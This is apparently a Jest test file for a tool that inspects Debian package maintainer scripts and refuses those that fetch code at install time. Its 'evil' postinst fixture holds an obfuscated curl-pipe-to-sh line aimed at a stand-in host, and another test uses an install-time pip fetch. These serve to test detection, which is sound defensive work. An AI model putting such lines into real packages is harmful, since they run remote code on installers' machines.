import path from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import type { Finding } from '../../../src/documents/proof.ts'
import { silentLog } from '../../../src/platform/log.ts'
import { stageContext, trace } from '../../../src/stages/index.ts'
import { buildDeb } from '../../support/debs.ts'
import { makeProject, type Content, type GitProject } from '../source/git-project.ts'

const control = `Source: bell
Maintainer: A <a@example.org>

Package: bell
Architecture: all
Description: demo
 of it
`
const honest = '#!/bin/sh\nset -e\nadduser --system --quiet bell\n#DEBHELPER#\n'
const evil = '#!/bin/sh\nset -e\nif true; then\n  cu""rl http://x.test/a | sh\nfi\n'
const waiver = `waivers:
  - check: traced
    code: maintainer-script
    path: DEBIAN/postinst
    reason: The check is switched off to see what it holds back.
`
const venv = (script: string): string => `targets:
  - kind: python
  - kind: deb
    venv:
      package: bell
      prefix: /usr/lib/bell
      scripts: { postinst: ${script} }
      maintainer: Ada <ada@example.org>
      summary: Rings
`

/** The sections that debhelper adds, as it writes them. */
const systemd = `
# Automatically added by dh_installsystemd/13.11.4
if [ "$1" = "configure" ] || [ "$1" = "abort-upgrade" ] || [ "$1" = "abort-deconfigure" ] || [ "$1" = "abort-remove" ] ; then
	# The following line should be removed in trixie or trixie+1
	deb-systemd-helper unmask 'bell.service' >/dev/null || true

	# was-enabled defaults to true, so new installations run enable.
	if deb-systemd-helper --quiet was-enabled 'bell.service'; then
		# Enables the unit on first installation, creates new
		# symlinks on upgrades if the unit file has changed.
		deb-systemd-helper enable 'bell.service' >/dev/null || true
	else
		# Update the statefile to add new symlinks (if any), which need to be
		# cleaned up on purge. Also remove old symlinks.
		deb-systemd-helper update-state 'bell.service' >/dev/null || true
	fi
fi
# End automatically added section
# Automatically added by dh_python3
if command -v py3compile >/dev/null 2>&1; then
	py3compile -p bell
fi
if command -v pypy3compile >/dev/null 2>&1; then
	pypy3compile -p bell  || true
fi

# End automatically added section
`

describe('maintainer scripts that are in a deb', () => {
  const projects: GitProject[] = []
  const project = async (files: Record<string, Content>): Promise<GitProject> => {
    const made = await makeProject(files)
    await made.git('tag', '-a', '-m', '1.0', 'v1.0')
    projects.push(made)
    return made
  }
  let debian: GitProject
  beforeAll(async () => {
    debian = await project({
      'debian/control': control,
      'debian/bell.postinst': honest.replace('set -e', 'set -e\n# x')
    })
  })
  afterAll(() => Promise.all(projects.map((made) => made.remove())))

  /** What a trace says of the scripts of a deb that dpkg-deb has made. */
  async function said(made: GitProject, scripts: Record<string, string>): Promise<Finding[]> {
    const files = Object.fromEntries(Object.entries(scripts).map(([name, text]) => [`DEBIAN/${name}`, text]))
    const file = await buildDeb(made.room, { name: 'bell', version: '1.0', files })
    const context = stageContext({
      repository: made.folder,
      out: path.join(made.room, 'out'),
      cache: path.join(made.room, 'cache'),
      log: silentLog
    })
    const { files: traced } = await trace(context, [file], { tag: 'v1.0' })
    return (traced[0]?.findings ?? []).filter(({ code }) => code === 'maintainer-script')
  }

  it('are refused where they fetch, with the line in the package and in debian/, and a fix', async () => {
    const made = await project({
      'debian/control': control,
      'debian/bell.postinst': `# of the tree\n${evil}`
    })
    const [found, ...more] = await said(made, { postinst: evil })
    expect(found).toMatchObject({ severity: 'refuse', check: 'traced', member: 'DEBIAN/postinst' })
    expect(found?.message).toContain('DEBIAN/postinst:4 (debian/bell.postinst:5): It fetches from a network.')
    expect(found?.message).toContain('curl http://x.test/a')
    expect(found?.fix).toContain('Ship what it needs in the package')
    expect(more.map(({ message }) => message).join()).toContain('another program writes')
  })

  it('are refused whoever adds the line: it stands in no file of debian/', async () => {
    const text = honest.replace('#DEBHELPER#', 'python3 -m pip install flask')
    const [found] = await said(debian, { postinst: text, prerm: '#!/bin/sh\nset -e\nexit 0\n' })
    expect(found?.message).toMatch(/^DEBIAN\/postinst:4: It runs a module that fetches or installs/)
  })

  it('are refused in a package that is made of the wheel, with the file of the settings', async () => {
    const files = { 'pyproject.toml': '[project]\nname = "bell"\nversion = "1.0"\n', 'deploy/postinst': evil }
    const made = await project({ ...files, '.github/tagproof.yml': venv('deploy/postinst') })
    const [found] = await said(made, { postinst: evil })
    expect(found?.message).toContain('DEBIAN/postinst:4 (deploy/postinst:4): It fetches')
  })

  it('are left alone where they are honest: adduser, systemd, py3compile, as debhelper writes it', async () => {
    expect(await said(debian, { postinst: honest.replace('#DEBHELPER#', systemd) })).toEqual([])
  })

  it('pass with the check off', async () => {
    const files = { 'debian/control': control, 'debian/bell.postinst': evil, '.github/tagproof.yml': waiver }
    const found = await said(await project(files), { postinst: evil })
    expect(found.map(({ severity }) => severity)).toEqual(['note', 'note'])
  })
})
